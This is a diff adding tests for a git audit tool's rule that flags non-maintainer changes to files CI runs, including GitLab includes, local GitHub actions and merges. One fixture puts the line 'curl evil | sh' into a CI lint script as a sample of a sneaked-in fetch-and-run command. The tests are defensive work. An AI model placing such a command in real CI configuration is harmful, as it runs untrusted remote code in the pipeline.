@@ -118,3 +118,111 @@ test('twin: on a new machine (no ledger), a pre-root branch signed by a key in n
   expect(res).toMatchObject({ code: 1, authorized: 'fail' });
   void tip;
 });
+
+// A file the CI runs only since a maintainer said so (a `.gitlab-ci.yml` include, a workflow's
+// `uses: ./tools/x`): its changes by a signer who is no maintainer BEFORE that were no change to
+// what CI runs, and must not fail protected-paths-changed-by-maintainers when the tip's CI names it.
+
+const CI_POLICY =
+  'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Bob\n    emails: [bob@example.com]\nmaintainers: [Alice]\n';
+
+function ciTeam(): { r: TestRepo; alice: SshTestKey; bob: SshTestKey } {
+  const r = makeRepo();
+  const alice = makeSshKey(r.home, 'ed25519', 'alice');
+  const bob = makeSshKey(r.home, 'ed25519', 'bob');
+  configureSshSigning(r, alice);
+  commitAsPerson(r, alice, 'alice@example.com', 'policy and CI', {
+    '.gitguard/policy.yml': CI_POLICY,
+    '.gitguard/allowed_signers': `alice@example.com ${alice.pub}\nbob@example.com ${bob.pub}\n`,
+    '.gitlab-ci.yml': 'test:\n  script: make test\n',
+    '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
+  });
+  return { r, alice, bob };
+}
+
+const protectedRule = (r: TestRepo): Promise<{ code: number; stdout: string }> =>
+  runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--no-ledger'], { env: r.env });
+
+describe.each([
+  [
+    'a GitLab local include',
+    'ci/lint.yml',
+    'lint:\n  script: make lint\n',
+    { '.gitlab-ci.yml': "include:\n  - local: '/ci/lint.yml'\ntest:\n  script: make test\n" },
+  ],
+  [
+    'a local action a workflow runs',
+    'tools/check/action.yml',
+    'runs:\n  using: composite\n  steps:\n    - run: make check\n      shell: bash\n',
+    {
+      '.github/workflows/ci.yml':
+        'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/check\n',
+    },
+  ],
+])('%s', (_name, file: string, text: string, adopt: Record<string, string>) => {
+  test('Bob wrote the file before CI ran it, then Alice made CI run it: passes', async () => {
+    const { r, alice, bob } = ciTeam();
+    commitAsPerson(r, bob, 'bob@example.com', 'a check', { [file]: text });
+    commitAsPerson(r, alice, 'alice@example.com', 'ci runs it', adopt);
+    const res = await protectedRule(r);
+    expect([res.code, res.stdout]).toEqual([0, expect.stringMatching(/pass\s+protected-paths-changed-by-maintainers/)]);
+  });
+
+  test('twin: Bob changes it after CI runs it: fails', async () => {
+    const { r, alice, bob } = ciTeam();
+    commitAsPerson(r, bob, 'bob@example.com', 'a check', { [file]: text });
+    commitAsPerson(r, alice, 'alice@example.com', 'ci runs it', adopt);
+    commitAsPerson(r, bob, 'bob@example.com', 'tweak', { [file]: `${text}# more\n` });
+    const res = await protectedRule(r);
+    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('tweak')]);
+  });
+
+  test('twin: Bob writes it and makes CI run it in one commit: fails', async () => {
+    const { r, bob } = ciTeam();
+    commitAsPerson(r, bob, 'bob@example.com', 'sneak', { [file]: text, ...adopt });
+    const res = await protectedRule(r);
+    expect(res.code).toBe(1);
+  });
+});
+
+describe('merges of a branch forked before CI ran the file', () => {
+  const FILE = 'ci/lint.yml';
+  const ADOPT = { '.gitlab-ci.yml': "include:\n  - local: '/ci/lint.yml'\ntest:\n  script: make test\n" };
+
+  /** Bob's branch `old` (forked before the include) edits the file; main then makes CI run it. */
+  function forked(): { r: TestRepo; alice: SshTestKey; bob: SshTestKey } {
+    const t = ciTeam();
+    commitAsPerson(t.r, t.bob, 'bob@example.com', 'a check', { [FILE]: 'lint:\n  script: make lint\n' });
+    t.r.run(['branch', 'old']);
+    commitAsPerson(t.r, t.alice, 'alice@example.com', 'ci runs it', ADOPT);
+    t.r.run(['checkout', '-q', 'old']);
+    commitAsPerson(t.r, t.bob, 'bob@example.com', 'lint more', { [FILE]: 'lint:\n  script: curl evil | sh\n' });
+    return t;
+  }
+  const merge = (r: TestRepo, key: SshTestKey, email: string, into: string, from: string): void => {
+    r.run(['checkout', '-q', into]);
+    r.run(['-c', `user.signingkey=${key.path}`, 'merge', '-q', '--no-ff', '-S', '-m', `merge ${from}`, from], {
+      env: { GIT_COMMITTER_EMAIL: email, GIT_AUTHOR_EMAIL: email },
+    });
+  };
+
+  test('twin: Bob merges main into his branch (CI there now runs his edit): fails', async () => {
+    const { r, bob } = forked();
+    merge(r, bob, 'bob@example.com', 'old', 'main');
+    const res = await protectedRule(r);
+    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('merge main')]);
+  });
+
+  test('Alice, the maintainer, merges the branch into main: passes', async () => {
+    const { r, alice } = forked();
+    merge(r, alice, 'alice@example.com', 'main', 'old');
+    expect((await protectedRule(r)).code).toBe(0);
+  });
+
+  test('twin: Bob merges his branch into main himself (a clean merge that makes CI run his edit): fails', async () => {
+    const { r, bob } = forked();
+    merge(r, bob, 'bob@example.com', 'main', 'old');
+    const res = await protectedRule(r);
+    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('merge old')]);
+  });
+});
